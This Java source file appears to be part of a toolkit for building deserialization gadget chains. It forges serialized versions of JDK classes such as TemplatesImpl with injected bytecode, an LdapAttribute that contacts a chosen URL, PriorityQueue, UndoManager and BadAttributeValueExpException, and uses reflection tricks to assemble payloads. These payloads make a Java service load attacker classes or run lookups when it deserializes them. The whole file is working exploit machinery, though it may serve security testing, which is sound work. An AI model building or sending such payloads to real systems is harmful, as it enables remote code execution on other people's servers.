package dev.wherry.gauntlet;

import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.lang.reflect.Constructor;
import java.lang.reflect.Field;
import java.lang.reflect.InvocationHandler;
import java.util.Comparator;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.PriorityQueue;
import java.util.Properties;
import java.util.Set;
import java.util.Vector;
import java.util.stream.Stream;
import javax.swing.undo.AbstractUndoableEdit;

/** The parts of several chains. */
final class Parts {
    /** The classes of the JDK that classes of this file stand in for. */
    static final Map<Class<?>, String> FORGERY = Map.of(
            Queue.class, "java.util.PriorityQueue",
            Listeners.class, "javax.swing.event.EventListenerList",
            Edits.class, "javax.swing.undo.CompoundEdit",
            Manager.class, "javax.swing.undo.UndoManager",
            Templates.class, "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
            Handler.class, "sun.reflect.annotation.AnnotationInvocationHandler",
            LdapAttribute.class, "com.sun.jndi.ldap.LdapAttribute",
            BadValue.class, "javax.management.BadAttributeValueExpException");

    private Parts() {}

    static void set(Object object, String name, Object value) throws ReflectiveOperationException {
        Class<?> owner = object.getClass();
        while (Stream.of(owner.getDeclaredFields())
                .noneMatch(field -> field.getName().equals(name))) {
            owner = owner.getSuperclass();
        }
        Field field = owner.getDeclaredField(name);
        field.setAccessible(true);
        field.set(object, value);
    }

    static Object create(String className, Class<?>[] types, Object... arguments) throws ReflectiveOperationException {
        Constructor<?> constructor = Class.forName(className).getDeclaredConstructor(types);
        constructor.setAccessible(true);
        return constructor.newInstance(arguments);
    }

    /** Makes an object of a library's class without a constructor of it, as deserialization does. */
    static <T> T empty(Class<T> type) throws ReflectiveOperationException {
        Class<?> factory = Class.forName("sun.reflect.ReflectionFactory");
        Constructor<?> constructor = (Constructor<?>) factory.getMethod(
                        "newConstructorForSerialization", Class.class, Constructor.class)
                .invoke(factory.getMethod("getReflectionFactory").invoke(null), type, Object.class.getConstructor());
        return type.cast(constructor.newInstance());
    }

    static PriorityQueue<Object> queue(Comparator<Object> comparator, Object one, Object other) {
        PriorityQueue<Object> queue = new PriorityQueue<>(2, comparator);
        queue.addAll(List.of(one, other));
        return queue;
    }

    static Set<Object> setOf(Object element) {
        Set<Object> set = new HashSet<>();
        set.add(element);
        return set;
    }

    static Map<Object, Object> mapOf(Object key) {
        Map<Object, Object> map = new HashMap<>();
        map.put(key, "value");
        return map;
    }

    /** Stands in for a queue whose comparator has not compared anything before it is sent. */
    static final class Queue implements Serializable {
        private final int size;
        private final Comparator<?> comparator;
        private final transient List<Object> elements;

        Queue(Comparator<?> comparator, Object... elements) {
            this.comparator = comparator;
            this.elements = List.of(elements);
            size = elements.length;
        }

        private void writeObject(ObjectOutputStream out) throws IOException {
            out.defaultWriteObject();
            out.writeInt(size + 1);
            for (Object each : elements) {
                out.writeObject(each);
            }
        }
    }

    /** Stands in for a list of listeners, which prints a listener of the wrong type when it is read. */
    static final class Listeners implements Serializable {
        private final transient Object printed;

        /** @param printed whose {@code toString} is called */
        Listeners(Object printed) {
            this.printed = new Manager(printed);
        }

        private void writeObject(ObjectOutputStream out) throws IOException {
            out.defaultWriteObject();
            out.writeObject("java.lang.Thread");
            out.writeObject(printed);
            out.writeObject(null);
        }
    }

    /** Stands in for an edit of several edits. */
    static class Edits extends AbstractUndoableEdit {
        boolean inProgress = true;
        Vector<Object> edits = new Vector<>();
    }

    /** Stands in for a listener that prints edits. */
    static final class Manager extends Edits {
        int indexOfNextAdd;
        int limit = 100;

        Manager(Object printed) {
            edits.add(printed);
        }
    }

    /** Stands in for a compiled style sheet: classes that are loaded when it is used. */
    static final class Templates implements Serializable, javax.xml.transform.Templates {
        private final int _indentNumber = 0;
        private final int _transletIndex = 0;
        private final byte[][] _bytecodes;
        private final Class<?>[] _class = null;
        private final String _name = "any";
        private final Properties _outputProperties = null;

        Templates(byte[]... classes) {
            _bytecodes = classes;
        }

        private void writeObject(ObjectOutputStream out) throws IOException {
            out.defaultWriteObject();
            out.writeBoolean(false);
        }

        @Override
        public javax.xml.transform.Transformer newTransformer() {
            throw new IllegalStateException("never called here");
        }

        @Override
        public Properties getOutputProperties() {
            throw new IllegalStateException("never called here");
        }
    }

    /** Stands in for the handler of annotations. */
    static final class Handler implements Serializable, InvocationHandler {
        private final Map<?, ?> memberValues;
        private final Class<?> type = Override.class;

        Handler(Map<?, ?> memberValues) {
            this.memberValues = memberValues;
        }

        @Override
        public Object invoke(Object proxy, java.lang.reflect.Method method, Object[] arguments) {
            throw new IllegalStateException("never called here");
        }
    }

    /** Stands in for an attribute of a directory, which connects to it when its definition is asked for. */
    static final class LdapAttribute extends javax.naming.directory.BasicAttribute {
        private final java.util.Hashtable<?, ?> baseCtxEnv = null;
        private final String baseCtxURL;
        private final javax.naming.Name rdn;

        LdapAttribute(String url) throws javax.naming.InvalidNameException {
            super("id");
            baseCtxURL = url;
            rdn = new javax.naming.CompositeName("a//b");
        }

        private void writeObject(ObjectOutputStream out) throws IOException {
            out.defaultWriteObject();
        }
    }

    /** Stands in for an exception that printed its value when it was read. */
    static final class BadValue extends Exception {
        private final Object val;

        BadValue(Object val) {
            this.val = val;
        }
    }
}
